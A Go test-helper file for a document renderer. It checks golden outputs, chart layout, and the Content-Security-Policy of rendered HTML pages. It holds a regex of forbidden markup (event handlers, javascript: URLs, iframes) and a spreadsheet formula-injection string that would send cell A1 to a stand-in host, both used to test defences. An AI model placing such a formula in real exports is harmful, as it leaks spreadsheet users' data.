package rendertest

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"html"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/headroom/headroom/internal/document"
	"github.com/headroom/headroom/internal/render"
	"github.com/headroom/headroom/internal/testing/golden"
)

// Written returns a document in a format.
func Written(t testing.TB, d document.Document, format string, o render.Options) string {
	t.Helper()
	var b strings.Builder
	all := render.Formats()
	i := slices.IndexFunc(all, func(f render.Format) bool { return f.Name == format })
	if err := all[i].Write(&b, d, o); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// InEveryFormat compares a document in each format with golden files of the package under test.
func InEveryFormat(t *testing.T, name string, build func(render.Options) document.Document) {
	t.Helper()
	for _, f := range render.Formats() {
		for _, width := range []int{80, 160} {
			if width == 160 && f.Name != "table" {
				continue
			}
			o := render.Options{Width: width}
			text, file := Written(t, build(o), f.Name, o), name+f.Extension
			if width == 160 {
				file = name + "-160" + f.Extension
			}
			Golden(t, file, text)
			if f.Name == "html" {
				CheckPolicy(t, name, text)
			}
		}
	}
}

// Golden compares a text with a file. For a page it omits the style and the script, which are separate files, and their
// hashes.
func Golden(t *testing.T, name, got string) {
	t.Helper()
	if strings.HasSuffix(name, ".html") {
		got = regexp.MustCompile(`(?s)(<style>|<script>).*?(</style>|</script>)`).ReplaceAllString(got, "$1$2")
		got = regexp.MustCompile(`sha256-[^']*?&#39;`).ReplaceAllString(got, "sha256-…&#39;")
	}
	golden.Equal(t, filepath.Join("testdata", "golden", name), got)
}

// Pictures returns the pictures of a document.
func Pictures(d document.Document) []document.Plot {
	var plots []document.Plot
	for b := range document.All(d.Blocks) {
		if p, ok := b.(document.Plots); ok {
			plots = append(plots, p.List...)
		}
	}
	return plots
}

// CheckPictures checks the pictures of documents, by their names: everything drawn stays in its picture, texts do not
// overlap, and there is a mark for each point.
func CheckPictures(t *testing.T, documents map[string]document.Document) {
	t.Helper()
	checked := 0
	for _, d := range documents {
		for _, p := range Pictures(d) {
			CheckPicture(t, p)
			checked++
		}
	}
	if checked == 0 {
		t.Error("no pictures")
	}
}

// CheckPolicy fails if a page's policy allows more than its own script and style, by their hashes, or if the page has
// what the policy would forbid.
func CheckPolicy(t *testing.T, name, page string) {
	t.Helper()
	meta := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`)
	forbidden := regexp.MustCompile(
		`(?i)<[^<>]*\s(on[a-z]+|style|srcdoc|action|formaction)\s*=|javascript:|<(iframe|object|embed|base|form)\b|@import|url\(`)
	found := meta.FindAllStringSubmatchIndex(page, -1)
	if len(found) != 1 {
		t.Fatalf("%s: %d policies", name, len(found))
	}
	policy := html.UnescapeString(page[found[0][2]:found[0][3]])
	want := "default-src 'none'; img-src data:"
	for _, element := range []string{"style", "script"} {
		parts := regexp.MustCompile(`(?s)<`+element+`\b([^>]*)>(.*?)</`+element+`>`).FindAllStringSubmatch(page, -1)
		if len(parts) > 1 || element == "style" && len(parts) == 0 {
			t.Errorf("%s: %d elements %s", name, len(parts), element)
		}
		if len(parts) == 0 {
			continue
		}
		if parts[0][1] != "" {
			t.Errorf("%s: the %s has attributes: %s", name, element, parts[0][1])
		}
		if strings.Index(page, parts[0][0]) < found[0][1] {
			t.Errorf("%s: the %s stands before the policy, which is not for it then", name, element)
		}
		if element == "script" && !strings.Contains(page, `<figure class="flame"`) {
			t.Errorf("%s: it has a script and nothing that needs one", name)
		}
		want += "; " + element + "-src " + hashOf(parts[0][2])
	}
	if want += "; base-uri 'none'; form-action 'none'"; policy != want {
		t.Errorf("%s: the policy is\n%s\nnot\n%s", name, policy, want)
	}
	bare := regexp.MustCompile(`(?s)<(style|script)>.*?</(style|script)>`).ReplaceAllString(page, "")
	if bad := forbidden.FindString(bare); bad != "" {
		t.Errorf("%s: the policy forbids %s", name, bad)
	}
	if strings.Contains(page, "ZgotmplZ") {
		t.Errorf("%s: the template has refused something", name)
	}
}

// hashOf returns the name of an element's text in a policy: https://www.w3.org/TR/CSP3/#grammardef-hash-source
func hashOf(text string) string {
	sum := sha256.Sum256([]byte(text))
	return "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
}

// Formula is a name with the form of a formula, also for a spreadsheet that ends cells at semicolons.
const Formula = `=HYPERLINK("http://e.test/?"&A1);=1+1`

// CheckFormulas fails if the name Formula is a formula in a file for spreadsheets, unless raw cells are requested, or
// if a number is no longer one.
func CheckFormulas(t *testing.T, name string, write func(render.Options) string) {
	t.Helper()
	plainNumber, endOfCell := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`), regexp.MustCompile(`[,;\t\r\n]`)
	read := func(o render.Options) (cells []string) {
		records, err := csv.NewReader(strings.NewReader(write(o))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range records {
			cells = append(cells, r...)
		}
		return cells
	}
	plain, raw := read(render.Options{}), read(render.Options{RawCells: true})
	found := 0
	for i, cell := range plain {
		if strings.HasPrefix(raw[i], Formula) {
			found++
		}
		for _, part := range endOfCell.Split(cell, -1) {
			if strings.HasPrefix(part, "=") {
				t.Errorf("%s: the cell %q", name, cell)
			}
		}
		if bare := strings.ReplaceAll(cell, "'", ""); cell != raw[i] &&
			(bare != strings.ReplaceAll(raw[i], "'", "") || plainNumber.MatchString(bare)) {
			t.Errorf("%s: %q became %q", name, raw[i], cell)
		}
	}
	if found == 0 {
		t.Errorf("%s: no cell has the name when it is asked for as it is", name)
	}
}
